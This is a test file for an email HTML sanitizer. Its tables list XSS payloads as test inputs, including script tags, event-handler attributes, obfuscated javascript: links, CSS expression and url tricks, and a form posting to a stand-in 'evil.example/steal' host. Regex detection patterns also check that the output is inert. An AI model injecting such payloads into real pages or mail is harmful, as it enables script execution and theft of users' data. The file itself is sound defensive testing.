import { describe, expect, it } from 'vitest';
import { sanitizeEmailHtml } from './sanitize.ts';

/** Whatever survives must not be able to run code or reach the network by itself. */
function assertInert(html: string): void {
  expect(html).not.toMatch(/<\s*(?:script|style|iframe|frame|object|embed|svg|math|form|input|button|meta|base|link|textarea|template)\b/i);
  expect(html).not.toMatch(/\son[a-z]+\s*=/i);
  expect(html).not.toMatch(/(?:java|vb)script\s*:/i);
  expect(html).not.toMatch(/expression\s*\(|url\s*\(/i);
  expect(html).not.toMatch(/<img[^>]*\ssrc\s*=\s*"(?:https?:)?\/\//i);
  expect(html).not.toMatch(/srcdoc|srcset|http-equiv/i);
}

describe('XSS vectors', () => {
  const vectors: [string, string, string][] = [
    // [name, input, expected output]
    ['script tag', '<p>hi</p><script>alert(1)</script>', '<p>hi</p>'],
    ['script with odd casing and attributes', '<ScRiPt type="text/javascript">alert(1)</ScRiPt>ok', 'ok'],
    ['img onerror', '<img src="x" onerror="alert(1)">', ''],
    ['img onerror with remote src', '<img src="https://evil.example/a.png" onerror="alert(1)">', '<img data-remote-src="https://evil.example/a.png" alt="" />'],
    ['javascript: href', '<a href="javascript:alert(1)">x</a>', '<a target="_blank" rel="noopener noreferrer nofollow">x</a>'],
    ['javascript: href with tab and case', '<a href="  JaVa\tScRiPt:alert(1)">x</a>', '<a target="_blank" rel="noopener noreferrer nofollow">x</a>'],
    ['entity-encoded javascript: href', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>', '<a target="_blank" rel="noopener noreferrer nofollow">x</a>'],
    ['hex-entity javascript: with newline', '<a href="jav&#x0A;ascript:alert(1)">x</a>', '<a target="_blank" rel="noopener noreferrer nofollow">x</a>'],
    ['vbscript: and data: links', '<a href="vbscript:msgbox(1)">a</a><a href="data:text/html,<script>alert(1)</script>">b</a>', '<a target="_blank" rel="noopener noreferrer nofollow">a</a><a target="_blank" rel="noopener noreferrer nofollow">b</a>'],
    ['svg onload', '<svg onload="alert(1)"><circle r="1"></circle></svg>after', 'after'],
    ['svg with script inside', '<svg><script>alert(1)</script><text>t</text></svg>', ''],
    ['style url(javascript:)', '<div style="background:url(javascript:alert(1));color:red">x</div>', '<div style="color:red">x</div>'],
    ['style expression()', '<p style="width: expression(alert(1)); font-weight: bold">x</p>', '<p style="font-weight:bold">x</p>'],
    ['style escapes', '<p style="color: \\72 ed; background-image: \\75rl(x)">x</p>', '<p>x</p>'],
    ['style -moz-binding and behavior', '<p style="-moz-binding:url(x.xml#x); behavior:url(x.htc)">x</p>', '<p>x</p>'],
    ['style tag with import', '<style>@import "https://evil.example/x.css"; body{background:url(https://t.example/p)}</style><p>x</p>', '<p>x</p>'],
    ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css"><p>x</p>', '<p>x</p>'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>x</p>', '<p>x</p>'],
    ['base href', '<base href="https://evil.example/"><a href="https://ok.example/">x</a>', '<a href="https://ok.example/" target="_blank" rel="noopener noreferrer nofollow">x</a>'],
    ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>">fallback</iframe><p>x</p>', '<p>x</p>'],
    ['object/embed', '<object data="x.swf"><embed src="x.swf"></object>x', 'x'],
    ['form with input', '<form action="https://evil.example/steal"><input name="pw"><button>Go</button></form>', ''],
    ['event handler on allowed tag', '<p onclick="alert(1)" onmouseover="alert(2)">x</p>', '<p>x</p>'],
    ['class and id are dropped', '<p class="x" id="login">x</p>', '<p>x</p>'],
    ['relative link (would hit our own app)', '<a href="/api/admin">x</a>', '<a target="_blank" rel="noopener noreferrer nofollow">x</a>'],
    ['unclosed comment trick', '<!--<img src="--><img src=x onerror=alert(1)//">', ''],
    ['math with href', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>', ''],
    ['background attribute (remote load)', '<table background="https://t.example/p.gif"><tr><td>x</td></tr></table>', '<table><tr><td>x</td></tr></table>'],
    ['img srcset', '<img src="data:image/png;base64,iVBORw0KGgo=" srcset="https://t.example/a.png 2x">', '<img src="data:image/png;base64,iVBORw0KGgo=" alt="" />'],
  ];

  it.each(vectors)('%s', (_name, input, expected) => {
    const out = sanitizeEmailHtml(input).html;
    expect(out).toBe(expected);
    assertInert(out);
  });
});

describe('images', () => {
  it.each([
    ['http remote → data-remote-src', '<img src="http://shop.example/p.png" alt="P">', '<img alt="P" data-remote-src="http://shop.example/p.png" />', 1],
    ['protocol-relative remote → https', '<img src="//cdn.example/p.png">', '<img data-remote-src="https://cdn.example/p.png" alt="" />', 1],
    ['tracking pixel counted', '<img src="https://t.example/open?id=1" width="1" height="1">', '<img width="1" height="1" data-remote-src="https://t.example/open?id=1" alt="" />', 1],
    ['attacker-supplied data-remote-src is replaced', '<img data-remote-src="javascript:alert(1)" src="https://a.example/x.png">', '<img data-remote-src="https://a.example/x.png" alt="" />', 1],
    ['data-remote-src without src is dropped', '<img data-remote-src="https://a.example/x.png">', '', 0],
    ['png data URI kept', '<img src="data:image/png;base64,iVBORw0KGgo=">', '<img src="data:image/png;base64,iVBORw0KGgo=" alt="" />', 0],
    ['webp data URI kept', '<img src="data:image/webp;base64,UklGRg==">', '<img src="data:image/webp;base64,UklGRg==" alt="" />', 0],
    ['svg data URI dropped', '<img src="data:image/svg+xml;base64,PHN2Zz4=">', '', 0],
    ['text/html data URI dropped', '<img src="data:text/html;base64,PHNjcmlwdD4=">', '', 0],
    ['cid without map dropped', '<img src="cid:logo@x">', '', 0],
    ['file: dropped', '<img src="file:///etc/passwd">', '', 0],
  ])('%s', (_name, input, expected, remote) => {
    const r = sanitizeEmailHtml(input);
    expect(r.html).toBe(expected);
    expect(r.remoteImages).toBe(remote);
  });

  it('rewrites cid: images through the map (URL-encoded ids too)', () => {
    const cidMap = new Map([
      ['logo@x', '/api/attachments/42'],
      ['a b@x', 'https://files.example/7'],
    ]);
    const r = sanitizeEmailHtml('<img src="cid:logo@x" alt="Logo"><img src="cid:a%20b@x"><img src="cid:unknown@x">', { cidMap });
    expect(r.html).toBe('<img alt="Logo" src="/api/attachments/42" /><img src="https://files.example/7" alt="" />');
    expect(r.remoteImages).toBe(0);
  });

  it('refuses a javascript: URL coming from the cid map', () => {
    const r = sanitizeEmailHtml('<img src="cid:x@y">', { cidMap: new Map([['x@y', 'javascript:alert(1)']]) });
    expect(r.html).toBe('');
  });
});

describe('formatting survives', () => {
  it('keeps tables, lists, emphasis, safe styles and forces link attributes', () => {
    const input =
      '<table border="1" cellpadding="2"><tr><td colspan="2" style="color: #333; text-align: center">Total</td></tr></table>' +
      '<ul><li><b>one</b></li><li><i>two</i></li></ul><a href="https://shop.example/o/1" target="_self" rel="opener">Order</a>' +
      '<a href="mailto:help@shop.example">mail</a><font color="red">!</font><blockquote>q</blockquote>';
    expect(sanitizeEmailHtml(input).html).toBe(
      '<table border="1" cellpadding="2"><tr><td colspan="2" style="color:#333;text-align:center">Total</td></tr></table>' +
        '<ul><li><b>one</b></li><li><i>two</i></li></ul><a href="https://shop.example/o/1" target="_blank" rel="noopener noreferrer nofollow">Order</a>' +
        '<a href="mailto:help@shop.example" target="_blank" rel="noopener noreferrer nofollow">mail</a><font color="red">!</font><blockquote>q</blockquote>',
    );
  });

  it('drops document chrome (head, title) but keeps the body text', () => {
    expect(sanitizeEmailHtml('<html><head><title>T</title></head><body><p>Hello</p></body></html>').html).toBe('<p>Hello</p>');
  });

  it('allows rgb() colours but not other CSS functions', () => {
    expect(sanitizeEmailHtml('<span style="color: rgb(10, 20, 30); width: calc(100% - 1px)">x</span>').html).toBe('<span style="color:rgb(10, 20, 30)">x</span>');
  });
});
